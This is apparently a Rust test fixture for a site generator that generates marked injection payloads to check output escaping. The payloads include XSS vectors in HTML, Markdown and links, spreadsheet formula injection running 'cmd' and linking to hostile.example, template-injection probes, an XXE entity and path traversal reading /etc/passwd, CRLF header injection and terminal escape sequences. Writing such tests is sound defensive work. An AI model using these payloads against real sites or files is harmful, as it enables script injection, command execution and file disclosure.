//! The attacks. In each of them `§` stands for the mark of the text that it came in through, so that whoever meets it
//! in a file of the site knows the way that it took. A script of an attack that runs calls `hostile(mark)`.

/// The machine that attacks lead to.
pub const HOST: &str = "hostile.example";
/// What a template makes of `{{ 7133 * 7 }}`; no attack holds it.
pub const EVALUATED: &str = "49931";
/// The mark of the first text. Marks have seven digits, and no figure of a portal begins like them.
pub const FIRST_MARK: u32 = 7_310_000;

/// Beginnings that spreadsheets take for a formula; texts take turns.
const LEADS: [&str; 12] = [
    "=HYPERLINK(\"https://hostile.example/§\";\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+HYPERLINK(\"https://hostile.example/§\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "''+1+1",
    "'\t=1+1",
    "'\r=1+1",
    "＝1+1",
    "＠SUM(1+1)",
    "_x003D_1+1",
];

/// Stand in every text that is free, one behind the other.
const PIECES: [&str; 22] = [
    "§",
    // HTML, out of a text, an attribute, a title, a text field, a style, a script, a comment.
    "<script>hostile(§)</script>",
    "\"'><img src=x onerror=hostile(§)>",
    "\" onmouseover=\"hostile(§)\" autofocus onfocus='hostile(§)' style=\"background:url(//hostile.example/§)\" x=\"",
    "</title></textarea></style></script></noscript></template>--><svg/onload=hostile(§)><!--",
    "&lt;img src=x onerror=hostile(§)&gt;&#60;script&#62;hostile(§)&#60;/script&#62;",
    "<iframe srcdoc=\"<script>parent.hostile(§)</script>\"></iframe><base href=\"https://hostile.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://hostile.example/§\"><style>*{color:red}</style><hostile->",
    // Templates, and the gaps of esep's own words.
    "{{7133*7}}{{ 7133 * 7 }}${7133*7}#{7133*7}<%= 7133*7 %>",
    "{% raw %}{% include \"base.html\" %}{{ __tera_context }}{# ",
    "{count}{title}{name}{address}%s%n",
    // XML.
    "]]>&boom;&#0;&#x1;<!DOCTYPE a [<!ENTITY boom SYSTEM \"file:///etc/passwd\">]><![CDATA[",
    // JSON and scripts.
    "\\\"}],\"@id\":\"javascript:hostile(§)\",\"__proto__\":{\"hostile\":1}});hostile(§)//",
    "\u{2028}hostile(§)\u{2029}hostile(§)//*/",
    // Markdown.
    "[§](javascript:hostile(§)) ![§](https://hostile.example/§.png) `x` | x",
    // Entries of references.
    "}}, url = {javascript:hostile(§)}}\n@online{hostile,\r\nER  - \r\nTY  - HACK\n\\write18{hostile}",
    // Headers, letters, commands of a code host, terminals.
    "\r\nSet-Cookie: hostile=§\r\n\r\n<script>hostile(§)</script>?bcc=all%40hostile.example&body=%0d%0a",
    "\n::error file=x::hostile §\n##[command]hostile",
    "\u{1b}]0;hostile\u{7}\u{1b}[2J\u{9b}31m\u{8}\u{7f}\u{0}",
    // The order of reading.
    "\u{202e}hostile\u{2066}\u{202d}\u{200f}\u{feff}",
    // An attribute that seems to begin, and does not end.
    "say=\"",
    "../../../../etc/passwd%00..%2f..%5c\\..\\",
];

/// Addresses that must not become links.
const ADDRESSES: [&str; 28] = [
    "javascript:hostile(§)",
    "JaVaScRiPt:hostile(§)",
    "\u{1}javascript:hostile(§)",
    "\u{a0}javascript:hostile(§)",
    "java\tscript:hostile(§)",
    "java\nscript:hostile(§)",
    "java\u{0}script:hostile(§)",
    "javascript&colon;hostile(§)",
    "&#106;avascript:hostile(§)",
    "javascript&#x3a;hostile(§)",
    "javascript:hostile(§)//https://portal.example/",
    "javascript://portal.example/%0ahostile(§)",
    "vbscript:hostile(§)",
    "data:text/html,<script>hostile(§)</script>",
    "data:image/svg+xml,<svg/onload=hostile(§)>",
    "feed:javascript:hostile(§)",
    "view-source:https://hostile.example/§",
    "file:///etc/passwd",
    "blob:https://hostile.example/§",
    "//hostile.example/§",
    "/\\hostile.example/§",
    "\\\\hostile.example\\§",
    "/\t/hostile.example/§",
    "https:hostile.example/§",
    "https:\\\\hostile.example/§",
    "https:///hostile.example/§",
    "/kk///hostile.example/§",
    "/..//hostile.example/§",
];

/// Whole pieces of Markdown.
const PASSAGES: [&str; 24] = [
    "<script>hostile(§)</script>",
    "A <img src=x onerror=hostile(§)> picture",
    "<svg/onload=hostile(§)>",
    "<!-- --><iframe srcdoc=\"<script>parent.hostile(§)</script>\"></iframe>",
    "<style>@import '//hostile.example/§'</style>",
    "<a href=\"javascript:hostile(§)\" onclick=hostile(§)>§</a>",
    "&lt;script&gt;hostile(§)&lt;/script&gt; &#60;img src=x onerror=hostile(§)&#62; &#0;",
    "\\<script>hostile(§)\\</script> \\&lt;b onclick=hostile(§)\\&gt;",
    "`<script>hostile(§)</script>` ``<img src=x onerror=hostile(§)>``",
    "```\"><script>hostile(§)</script>\n<img src=x onerror=hostile(§)>\n```",
    "~~~ html onload=hostile(§)\n</code></pre><script>hostile(§)</script>\n~~~",
    "    </code></pre><script>hostile(§)</script>",
    "## \\<img src=x onerror=hostile(§)> {#x onclick=hostile(§)}",
    "| \\<script> | `<script>hostile(§)</script>` |\n|---|:-:|\n| &lt;script&gt;hostile(§)&lt;/script&gt; | {{7133*7}} |",
    "A note[^§\"onclick=hostile(§)]\n\n[^§\"onclick=hostile(§)]: &lt;script&gt;hostile(§)&lt;/script&gt;",
    "{{7133*7}} {% include \"base.html\" %} {{ page | safe }} {count}",
    "[§](https://hostile.example/§?\"onmouseover=\"hostile(§) \"\\\" onmouseover=hostile(§) x=\\\"\")",
    "[§](<https://hostile.example/§\"onmouseover=hostile(§) x=\"> '\">\\<script>hostile(§)\\</script>')",
    "say=\"[§](https://hostile.example/§) and say='[§](mailto:office%40hostile.example?bcc=all%40hostile.example)",
    "<https://hostile.example/§\"onmouseover=\"hostile(§)>",
    "![\" onerror=hostile(§) x=\"](pictures/§\"onerror=hostile(§).png)",
    "![§](https://hostile.example/§.png)",
    "\u{202e}§\u{2066} \u{2028}hostile(§) \u{1b}[2J\u{9b}31m",
    "> - 1. ***~~§~~*** say=\"",
];

/// The attack with the mark of the text that it comes in through.
pub fn marked(attack: &str, mark: u32) -> String {
    attack.replace('§', &mark.to_string())
}

/// One of them for each mark, in turns.
fn one_of<'a>(attacks: &[&'a str], mark: u32) -> &'a str {
    attacks[(mark - FIRST_MARK) as usize % attacks.len()]
}

/// What is tried in the place of a text, one after the other until the portal takes it: everything at once, an address
/// that must not become a link, an address that may.
pub fn shots(mark: u32) -> [String; 3] {
    let free = format!("{} {}", one_of(&LEADS, mark), PIECES.join(" "));
    let link = "https://hostile.example/§?a=\"'><script>hostile(§)</script>&b={{7133*7}}&lt;\"onmouseover=hostile(§)//";
    [&free, one_of(&ADDRESSES, mark), link].map(|attack| marked(attack, mark))
}

/// Pieces of Markdown, each to stand by itself.
pub fn passages() -> impl Iterator<Item = String> {
    PASSAGES.iter().map(|passage| (*passage).to_owned())
}

/// The addresses in every way in which Markdown links.
pub fn links() -> impl Iterator<Item = String> {
    ADDRESSES.iter().flat_map(|address| {
        [
            format!("[§](<{address}>) say"),
            format!("[§][r§]\n\n[r§]: <{address}> \"title\""),
            format!("<{address}>"),
            format!("[§]({address})"),
            format!("![§](<{address}>)"),
        ]
    })
}
